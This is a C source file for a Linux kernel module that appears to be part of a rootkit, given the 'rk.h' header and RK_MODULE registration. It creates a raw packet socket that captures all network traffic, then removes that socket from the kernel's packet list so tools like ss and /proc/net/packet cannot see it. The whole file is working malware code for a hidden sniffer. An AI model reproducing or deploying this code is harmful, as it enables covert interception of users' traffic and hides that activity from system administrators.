// SPDX-License-Identifier: GPL-2.0-only
/*
 * Takes a packet socket, which sees each packet that comes in, off the list that ss and
 * /proc/net/packet show.
 */
#include <linux/if_ether.h>
#include <linux/net.h>
#include <linux/rculist.h>
#include <net/net_namespace.h>
#include <net/sock.h>

#include "rk.h"

static struct socket *sniffer;

static int on(void)
{
	int err = sock_create_kern(&init_net, AF_PACKET, SOCK_RAW, htons(ETH_P_ALL), &sniffer);

	if (err)
		return err;
	mutex_lock(&init_net.packet.sklist_lock);
	hlist_del_init_rcu(&sniffer->sk->sk_node);
	mutex_unlock(&init_net.packet.sklist_lock);
	return 0;
}

static void off(void)
{
	mutex_lock(&init_net.packet.sklist_lock);
	hlist_add_head_rcu(&sniffer->sk->sk_node, &init_net.packet.sklist);
	mutex_unlock(&init_net.packet.sklist_lock);
	sock_release(sniffer);
}

RK_MODULE(hide_socket, on, off);
